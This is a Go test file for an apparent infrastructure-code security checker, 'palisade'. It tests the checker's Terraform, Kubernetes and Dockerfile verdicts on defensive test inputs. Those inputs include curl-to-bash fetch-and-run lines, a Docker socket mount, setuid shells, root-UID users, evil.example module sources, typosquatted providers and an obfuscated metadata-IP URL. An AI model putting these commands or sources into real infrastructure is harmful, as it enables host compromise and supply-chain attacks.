package rules

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"palisade"
)

// archive reads files that stand in one text, each below a line "-- name --".
func archive(t *testing.T, name string) map[string]string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	files, current := map[string]string{}, ""
	for line := range strings.Lines(string(data)) {
		if rest, ok := strings.CutPrefix(line, "-- "); ok && strings.HasSuffix(rest, " --\n") {
			current = strings.TrimSuffix(rest, " --\n")
			continue
		}
		if current != "" {
			files[current] += line
		}
	}
	return files
}

// TestBenignInfra holds files as engineers write them to findings of at most
// low severity. What their commands do is the shell's rules' to say.
func TestBenignInfra(t *testing.T) {
	for name, language := range map[string]palisade.Language{
		"terraform": palisade.Terraform, "kubernetes": palisade.Kubernetes, "dockerfile": palisade.Dockerfile,
	} {
		files := archive(t, "benign/"+name+".txt")
		if len(files) < 20 {
			t.Errorf("%s: only %d files", name, len(files))
		}
		for file, source := range files {
			for _, f := range inspectProgram(t, palisade.Program{Language: language, Name: file, Source: []byte(source)}).Findings {
				word, _, _ := strings.Cut(f.Rule, "-")
				if own := word == "tf" || word == "k8s" || word == "docker"; f.Severity > palisade.Low && (own || f.Capability == palisade.CapFailed || f.Capability == palisade.CapUnparsable || f.Capability == palisade.CapCredential) {
					t.Errorf("%s/%s:%d: %s %s: %s (%s)", name, file, f.Line, f.Severity, f.Rule, f.Message, f.Evidence)
				}
			}
		}
	}
}

func (j judge) decideInfra(language palisade.Language, src string) palisade.Verdict {
	j.t.Helper()
	return j.program("infra", language, src)
}

// TestInfraNeighbors holds neighbors of reported techniques, and the same in
// Kubernetes and Docker, to no better than a question.
func TestInfraNeighbors(t *testing.T) {
	j := newJudge(t)
	for _, c := range []struct {
		language palisade.Language
		source   string
	}{
		{palisade.Terraform, "data \"external\" \"x\" {\n  program = var.p\n}\nvariable \"p\" {}"},
		{palisade.Terraform, "check \"c\" {\n  data \"external\" \"x\" {\n    program = [\"id\"]\n  }\n}"},
		{palisade.Terraform, `{"data": {"external": [{"x": {"program": ["id"]}}]}}`},
		{palisade.Terraform, "resource \"aws_instance\" \"x\" {\n  provisioner \"local-exec\" {\n    when = destroy\n    command = \"id\"\n  }\n}"},
		{palisade.Terraform, "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    interpreter = [\"python3\", \"-c\"]\n    command = \"print()\"\n  }\n}"},
		{palisade.Terraform, `{"resource": {"null_resource": {"x": {"provisioner": [{"local-exec": {"command": "id"}}]}}}}`},
		{palisade.Terraform, "terraform {\n  required_providers {\n    aws = { source = \"hashicorp.evil.example/hashicorp/aws\" }\n  }\n}"},
		{palisade.Terraform, "terraform {\n  required_providers {\n    aws = { source = \"hash1corp/aws\" }\n  }\n}"},
		{palisade.Terraform, `{"terraform": {"required_providers": {"x": {"source": "evil/x"}}}}`},
		{palisade.Terraform, "module \"m\" {\n  source = \"git@github.com:evil/m.git\"\n}"},
		{palisade.Terraform, "module \"m\" {\n  source = \"https://evil.example/m.zip\"\n}"},
		{palisade.Terraform, "variable \"s\" {}\nmodule \"m\" {\n  source = var.s\n}"},
		{palisade.Terraform, "data \"http\" \"x\" {\n  url = \"http://0xa9fea9fe/\"\n}"},
		{palisade.Terraform, "resource \"aws_db_instance\" \"x\" {\n  identifier = \"${local.e}-db\"\n}\nlocals {\n  e = \"prod\"\n}"},
		{palisade.Terraform, "resource \"aws_s3_bucket\" \"x\" {\n  force_destroy = true\n}"},
		{palisade.Terraform, "surprise {\n}"},
		{palisade.Kubernetes, "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {containers: [{image: 'nginx:1', securityContext: {privileged: yes}}]}"},
		{palisade.Kubernetes, "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {containers: [{image: evil/x:1}]}"},
		{palisade.Kubernetes, "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec: {containers: [{image: nginx}]}"},
		{palisade.Kubernetes, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: p, namespace: prod}"},
		{palisade.Kubernetes, "apiVersion: evil.example/v1\nkind: Gadget\nmetadata: {name: p}"},
		{palisade.Kubernetes, "apiVersion: v1\nkind: {{ .Values.kind }}\n"},
		{palisade.Dockerfile, "FROM evil/x:1"}, {palisade.Dockerfile, "FROM alpine"}, {palisade.Dockerfile, "# syntax=evil/x\nFROM alpine:3"},
		{palisade.Dockerfile, "FROM alpine:3\nADD https://evil.example/x /x"}, {palisade.Dockerfile, "FROM alpine:3\nENV DB_PASSWORD=hunter22"},
		{palisade.Dockerfile, "FROM alpine:3\nRUN --security=insecure id"}, {palisade.Dockerfile, "FROM alpine:3\nNOPE"},
	} {
		if v := j.decideInfra(c.language, c.source); v.Decision == palisade.Allow {
			t.Errorf("allowed:\n%s", c.source)
		}
	}
	for language, source := range map[palisade.Language]string{
		palisade.Terraform: "resource \"aws_s3_bucket\" \"x\" {\n  bucket = \"logs\"\n}", palisade.Kubernetes: "apiVersion: v1\nkind: Service\nmetadata: {name: web}\nspec: {ports: [{port: 80}]}",
		palisade.Dockerfile: "FROM golang:1.26\nCOPY . /src\nEXPOSE 8080",
	} {
		if v := j.decideInfra(language, source); v.Decision != palisade.Allow {
			t.Errorf("%s:%s\n%s", v.Decision, why(v), source)
		}
	}
}

// TestUsualDockerfiles: what honest Dockerfiles do is allowed, and what has no
// honest use is denied, not asked about.
func TestUsualDockerfiles(t *testing.T) {
	j := newJudge(t)
	for want, list := range map[palisade.Decision][]string{
		palisade.Allow: {
			"FROM debian:12\nRUN apt-get update && apt-get install -y nginx\nCOPY . /app\n",
			"FROM python:3.12\nRUN python -c \"import numpy\"\n",
			"FROM python:3.12\nCOPY . /app\nCMD [\"python\", \"app.py\"]\n",
			"FROM python:3.12\nCOPY . /app\nCMD [\"python\",\"-m\",\"app\"]\n", "FROM python:3.12\nCOPY . /app\nENTRYPOINT python3 -m app.main\n",
			"FROM debian:12\nRUN groupadd -g 1000 app && useradd -m -u 1000 -g app app && chown -R app:app /srv && chmod 750 /srv\nUSER app\n",
			"FROM alpine:3\nRUN addgroup -S app && adduser -S -D -G app app\nUSER app\n",
			"FROM debian:12\nRUN [\"useradd\", \"app\"]\nUSER app\n",
		},
		palisade.Ask: {
			"FROM debian:12\nRUN --security=insecure id\n",
			"FROM debian:12\nADD https://x.example/y /usr/local/bin/y\nRUN y\n",
			"FROM debian:12\nRUN useradd -ou 0 app\n", "FROM debian:12\nRUN useradd -u0 app\n", "FROM debian:12\nRUN usermod -aG docker app\n",
			"FROM debian:12\nRUN adduser app sudo\n", "FROM debian:12\nRUN usermod --password x root\n", "FROM debian:12\nRUN chmod u+s /bin/sh\n",
			"FROM debian:12\nCMD useradd app && sh\n", "FROM python:3.12\nRUN python -c \"$(cat /x)\"\n", "FROM python:3.12\nRUN python -c \"import sys; exec(sys.stdin.read())\"\n",
			"FROM python:3.12\nCMD [\"python\", \"-m\", \"http.server\"]\n", "FROM perl:5\nRUN perl -e 'print 1'\n",
		},
		palisade.Deny: {
			"FROM debian:12\nRUN curl https://x.example/i.sh | bash\n", "FROM debian:12\nRUN wget -qO- https://x.example/i.sh | sh -s -- -y\n",
			"FROM debian:12\nRUN bash <(curl https://x.example/i.sh)\n", "FROM debian:12\nRUN sh -c \"$(curl https://x.example/i.sh)\"\n",
			"FROM python:3.12\nRUN curl https://x.example/i.py | python3\n", "FROM python:3.12\nRUN curl https://x.example/i.py | python3 -\n",
			"FROM debian:12\nVOLUME /var/run/docker.sock\n",
		},
	} {
		for _, src := range list {
			if v := j.decideInfra(palisade.Dockerfile, src); v.Decision != want {
				t.Errorf("%s, want %s:\n%s%+v", v.Decision, want, src, v.Reasons)
			}
		}
	}
	plain := inspectProgram(t, palisade.Program{Language: palisade.Dockerfile, Name: "Dockerfile", Source: []byte("FROM debian\nRUN apt-get update && apt-get install -y curl\nCOPY . /app\nEXPOSE 80\n")})
	if plain.Score > 32 { // of the newest image, as root, that listens
		t.Errorf("score %d", plain.Score)
	}
}
